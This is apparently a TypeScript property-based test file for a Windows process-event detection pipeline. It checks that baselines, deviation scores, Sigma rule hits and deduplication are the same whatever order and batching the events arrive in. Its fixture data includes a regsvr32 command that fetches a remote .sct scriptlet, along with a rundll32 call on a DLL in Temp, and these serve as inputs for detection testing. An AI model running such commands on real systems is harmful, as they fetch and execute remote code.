import fc from 'fast-check'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { loadRecogniser } from '@/lib/operations/ingest/load-recogniser'
import { ensureCatalogue } from '@/lib/operations/seed-catalogue'
import { foldFleet } from '@/lib/pipeline/deviation/fold-fleet'
import type { ProcessCreation, Sensor } from '@/lib/pipeline/event/event'
import { createUpload, openImportFile } from '@/lib/store/imports'
import { writeBatch } from '@/lib/store/ingest/write-batch'
import { createPool, type Pool } from '@/lib/store/pool'
import { loadStoredUse } from '@/lib/store/preview-usage'
import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
import { queueRebuild, recompute } from './recompute'

let database: TestDatabase
let pool: Pool

beforeAll(async () => {
  database = await createTestDatabase()
  pool = createPool(database.appUrl)
  await ensureCatalogue(pool)
  await storeRules()
})
afterAll(async () => {
  await pool.end()
  await database.drop()
})

const HOSTS = ['ws-1.corp.example', 'ws-2.corp.example', 'srv-1.corp.example']
const PARENTS = [
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
]
const USES = [
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Users\\ada\\AppData\\Local\\Temp\\k2j4h6.dll,Start',
  ],
  ['C:\\Windows\\System32\\regsvr32.exe', 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll'],
  ['C:\\Windows\\System32\\msiexec.exe', 'msiexec /i C:\\Windows\\ccmcache\\a\\tool.msi /qn'],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe notes.txt'],
] as const
const FIRST_DAY_US = Date.UTC(2026, 0, 5) * 1000
const DAY_US = 86_400_000_000

type Draw = {
  host: number
  day: number
  minute: number
  use: number
  parent: number
  pid: number
  sensors: Sensor[]
}

const draw: fc.Arbitrary<Draw> = fc.record({
  host: fc.nat(HOSTS.length - 1),
  day: fc.nat(9),
  minute: fc.nat(1439),
  use: fc.nat(USES.length - 1),
  parent: fc.nat(PARENTS.length - 1),
  pid: fc.integer({ min: 100, max: 105 }),
  sensors: fc.constantFrom<Sensor[]>(['sysmon'], ['security'], ['sysmon', 'security']),
})

function toCreation(drawn: Draw, sensor: Sensor): { event: ProcessCreation; hostName: string } {
  const [image, commandLine] = USES[drawn.use] ?? USES[0]
  const us = FIRST_DAY_US + drawn.day * DAY_US + drawn.minute * 60_000_000
  const hostName = HOSTS[drawn.host] ?? ''
  // Security's clock is a little later, as in real logs
  const atUs = sensor === 'sysmon' ? us : us + 7_000
  const event: ProcessCreation = {
    kind: 'process-creation',
    recordKey: `${sensor} ${drawn.host} ${us} ${drawn.pid} ${drawn.use}`,
    sensor,
    host: hostName,
    time: { us: atUs, tick: 0 },
    timeSource: 'utc-time',
    recordId: null,
    position: 1,
    pid: drawn.pid,
    parentPid: 4,
    processGuid: sensor === 'sysmon' ? `g-${us}-${drawn.pid}` : null,
    parentProcessGuid: null,
    image,
    commandLine,
    currentDirectory: null,
    originalFileName: null,
    parentImage: PARENTS[drawn.parent] ?? null,
    parentCommandLine: null,
    grandparentImage: null,
    user: 'CORP\\ada',
    userSid: null,
    integrityLevel: sensor === 'sysmon' ? 'medium' : null,
    logonId: null,
    hashes: null,
    signer: null,
  }
  return { event, hostName }
}

/** Sigma rules that some of the uses meet, one of them by what only one sensor reports. */
async function storeRules(): Promise<void> {
  await pool.query(`INSERT INTO sigma_rule_set (name, source, loaded_at) VALUES ('test', 'test', now())`)
  for (const [id, selection] of Object.entries({
    script: { 'CommandLine|contains': '.sct' },
    medium: { 'Image|endswith': 'rundll32.exe', IntegrityLevel: 'medium' },
  })) {
    const logsource = { category: 'process_creation', product: 'windows' }
    const document = {
      title: id,
      level: 'medium',
      logsource,
      detection: { selection, condition: 'selection' },
    }
    await pool.query(
      `INSERT INTO sigma_rule (id, set_id, title, level, category, description, author, document, updated_at)
       SELECT $1, id, $1, 'medium', 'process_creation', '', '', $2, now() FROM sigma_rule_set`,
      [id, JSON.stringify(document)],
    )
  }
}

async function ingest(creations: readonly { event: ProcessCreation; hostName: string }[]) {
  const upload = {
    channel: 'api',
    name: 'test',
    sizeBytes: null,
    state: 'running',
    hostOverride: null,
    actorName: 'test',
  } as const
  const file = await openImportFile(pool, await createUpload(pool, upload), 'test', 'json')
  const recognise = await loadRecogniser(pool)
  return writeBatch(
    pool,
    creations.map((creation) => ({ ...creation, ...recognise(creation.event), original: '{}' })),
    {
      importFileId: file.id,
      checkpoint: creations.length,
      records: creations.length,
      eventsByKind: {},
      rejections: [],
      firstAtUs: null,
      lastAtUs: null,
    },
  )
}

/** All that is derived, by host name: host ids depend on which host came first. */
async function derived(): Promise<unknown> {
  const host = (table: string, rest: string) =>
    pool.query(`SELECT h.name, ${rest} FROM ${table} t JOIN host h ON h.id = t.host_id ORDER BY 1, ${rest}`)
  const results = await Promise.all([
    host(
      'usage',
      't.day, t.signature_id, t.principal_id, t.hours, t.first_at, t.last_at, t.executions, t.score_millibits, t.trusted, t.refused',
    ),
    host('host_value', 't.entry_id, t.feature, t.value_id, t.first_day'),
    host('pattern_day', 't.entry_id, t.value_id, t.day'),
    host('deviation_hit', 't.day, t.deviation_id, t.signature_id, t.score_millibits, t.reasons::text'),
    host('coverage', 't.day, t.sensor, t.creations, t.with_command_line'),
    host('sigma_hit', 't.day, t.rule_id, t.signature_id, t.principal_id, t.events'),
    host('execution', 't.occurred_at, t.id, t.anchor_id, t.signature_id'),
    pool.query('SELECT * FROM prevalence ORDER BY scope_id, entry_id, feature, value_id, day'),
    pool.query('SELECT id, title FROM deviation ORDER BY id'),
  ])
  return results.map(({ rows }) => rows)
}

async function empty(): Promise<void> {
  await pool.query(
    'TRUNCATE execution, process, raw_block, usage, host_value, prevalence, pattern_day, deviation_hit, coverage, host_work, host_alias, host, deviation, upload CASCADE',
  )
}

test('any order and batching of the same events gives the same baselines, scores and deviations, and a rebuild gives them again', async () => {
  const plan = fc.record({
    draws: fc.array(draw, { minLength: 1, maxLength: 40 }),
    order: fc.infiniteStream(fc.nat()),
    cuts: fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 6 }),
  })
  await fc.assert(
    fc.asyncProperty(plan, async ({ draws, order, cuts }) => {
      const creations = draws.flatMap((drawn) => drawn.sensors.map((sensor) => toCreation(drawn, sensor)))
      await empty()
      await ingest(creations)
      await recompute(pool)
      const atOnce = await derived()

      await empty()
      const shuffled = creations
        .map((creation) => ({ creation, at: order.next().value }))
        .sort((a, b) => a.at - b.at)
        .map(({ creation }) => creation)
      for (let from = 0, cut = 0; from < shuffled.length; cut++) {
        const size = cuts[cut % cuts.length] ?? 1
        await ingest(shuffled.slice(from, from + size))
        await recompute(pool)
        from += size
      }
      expect(await derived()).toEqual(atOnce)

      await queueRebuild(pool)
      await recompute(pool)
      expect(await derived()).toEqual(atOnce)
    }),
    { numRuns: 12 },
  )
}, 240_000)

test('what a host adds to prevalence always sums up to prevalence', async () => {
  const { rows } = await pool.query(
    `SELECT entry_id, feature, value_id, first_day, count(*)::int AS hosts FROM host_value GROUP BY 1, 2, 3, 4
     EXCEPT SELECT entry_id, feature, value_id, day, hosts FROM prevalence WHERE scope_id = 0`,
  )
  expect(rows).toEqual([])
})

test('a record that arrives twice is stored once, and one process that two sensors report is one execution', async () => {
  await empty()
  const drawn: Draw = { host: 0, day: 1, minute: 5, use: 0, parent: 0, pid: 100, sensors: [] }
  const both = [toCreation(drawn, 'sysmon'), toCreation(drawn, 'security')]
  expect(await ingest(both)).toEqual({
    processes: 2,
    processesDuplicate: 0,
    executions: 1,
    executionsDuplicate: 1,
  })
  expect(await ingest(both)).toEqual({
    processes: 0,
    processesDuplicate: 2,
    executions: 0,
    executionsDuplicate: 2,
  })
  await recompute(pool)
  const { rows } = await pool.query('SELECT sum(executions)::int AS executions FROM usage')
  expect(rows).toEqual([{ executions: 1 }])
})

test('a fold in memory gives the scores, trust and refusals that the database computes', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(draw, { minLength: 10, maxLength: 60 }), async (draws) => {
      await empty()
      await ingest(draws.flatMap((drawn) => drawn.sensors.map((sensor) => toCreation(drawn, sensor))))
      await recompute(pool)
      const { rows: stored } = await pool.query<{ key: string; result: string }>(
        `SELECT concat_ws(' ', day - '1970-01-01'::date, host_id, signature_id, principal_id) AS key,
                concat_ws(' ', score_millibits, trusted::text, refused::text) AS result FROM usage`,
      )
      const use = await loadStoredUse(pool, 1_000)
      const folded = [...foldFleet(use?.days ?? [])].flatMap(({ day, host, result }) =>
        result.rows.map((row): [string, string] => [
          `${day} ${host} ${row.signatureId} ${row.principalId}`,
          `${row.scoreMillibits} ${row.trusted} ${row.refused}`,
        ]),
      )
      expect(new Map(folded)).toEqual(new Map(stored.map(({ key, result }) => [key, result])))
    }),
    { numRuns: 12 },
  )
}, 240_000)
